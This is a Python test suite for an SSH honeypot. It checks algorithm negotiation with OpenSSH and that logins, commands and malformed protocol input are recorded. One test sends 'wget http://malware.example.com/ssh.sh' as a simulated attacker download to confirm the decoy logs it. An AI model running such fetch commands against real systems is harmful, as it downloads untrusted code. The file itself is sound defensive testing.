"""OpenSSH's own client against the ssh decoy, with everything that both can."""

import pathlib
import socket
import subprocess
import tomllib

import pytest

from noroshi import Node, wait_until
from ssh_clients import SshClients
from ssh_probes import USERAUTH, converse
from ssh_wire import auth_request, channel_request, read_all
from test_clients import observations, wait_for

PERSONA = tomllib.loads((pathlib.Path(__file__).parents[2] / "packs/personas/debian.toml").read_text())["ssh"]


@pytest.fixture(scope="module")
def node(tmp_path_factory):
    with Node(tmp_path_factory.mktemp("ssh"), settings=["sense.listen=ssh:127.0.0.1:0,any:127.0.0.1:0"]) as running:
        yield running


@pytest.fixture
def ssh(node, tmp_path):
    """Runs OpenSSH's client as root with a password, and gives its end."""
    return SshClients(tmp_path, node.port("ssh")).ssh


def known(what):
    """What this machine's client can."""
    return set(subprocess.run(["ssh", "-Q", what], capture_output=True, text=True, timeout=20, check=True).stdout.split())


def shared(what, key):
    both = [name for name in PERSONA[key] if name in known(what)]
    assert both, f"the client has nothing of {PERSONA[key]}"
    return both


CHOICES = [
    *(("KexAlgorithms", name) for name in shared("kex", "kex")),
    *(("Ciphers", name) for name in shared("cipher", "ciphers")),
    *(("MACs", name) for name in shared("mac", "macs")),
    *(("HostKeyAlgorithms", name) for name in shared("HostKeyAlgorithms", "host_keys")),
]


@pytest.mark.parametrize(("option", "name"), CHOICES)
def test_every_algorithm_that_both_sides_have_carries_a_command(ssh, option, name):
    apart = ["Ciphers=aes128-ctr"] if option == "MACs" else []  # the others need no MAC
    done = ssh("echo", "heard", options=[f"{option}={name}", *apart])
    assert (done.returncode, done.stdout) == (0, "heard\n"), done.stderr


def test_a_long_talk_is_carried_through_compression_and_new_keys(ssh):
    done = ssh(options=["Compression=yes", "RekeyLimit=16K"], stdin="echo heard\n" * 3_000)
    assert done.stdout.count("heard") == 3_000, done.stderr


def test_log_ins_and_commands_are_observations(node, ssh):
    assert ssh("true", password="not this one", options=["NumberOfPasswordPrompts=1"]).returncode == 255
    assert ssh("wget http://malware.example.com/ssh.sh").returncode == 1  # nothing is fetched
    wait_for(node, kind="login", protocol="ssh", username="root", password="not this one", accepted=False)
    wait_for(node, kind="login", protocol="ssh", username="root", password="root", accepted=True)
    wait_for(node, kind="download", url="http://malware.example.com/ssh.sh")
    hello = wait_for(node, kind="hello", protocol="ssh")[0]
    assert len(hello["hassh"]) == 32 and hello["client_version"].startswith("SSH-2.0-OpenSSH")


def test_the_any_port_decoy_speaks_ssh(node, ssh):
    done = ssh("echo", "heard", port=node.port("any"), password="123456")
    assert (done.returncode, done.stdout) == (0, "heard\n"), done.stderr
    wait_for(node, kind="login", protocol="ssh", password="123456", accepted=True)


def test_a_host_keeps_its_keys_over_a_restart(tmp_path):
    node = Node(tmp_path, settings=["sense.listen=ssh:127.0.0.1:0"])

    def keys():
        with node:
            scanned = subprocess.run(["ssh-keyscan", "-p", str(node.port("ssh")), "127.0.0.1"], capture_output=True, text=True, timeout=60, check=True)
        return sorted(line.split(" ", 1)[1] for line in scanned.stdout.splitlines() if not line.startswith("#"))

    first = keys()
    assert len(first) == 3 and first == keys()


def test_what_breaks_the_protocol_is_an_observation_at_every_stage(node):
    port = node.port("ssh")
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        read_all(connection, 20)
    converse(port, [USERAUTH, auth_request(b"root", b"none"), auth_request(b"other", b"none")], source="127.0.0.1")
    converse(port, [channel_request(7, b"shell")], ("root", "root"), source="127.0.0.1")
    for reason in ("GET / HTTP/1.0", "(root,ssh-connection) -> (other,ssh-connection)", "unknown channel 7"):
        wait_until(lambda: any(reason in each["reason"] for each in observations(node, kind="malformed", protocol="ssh")), reason)
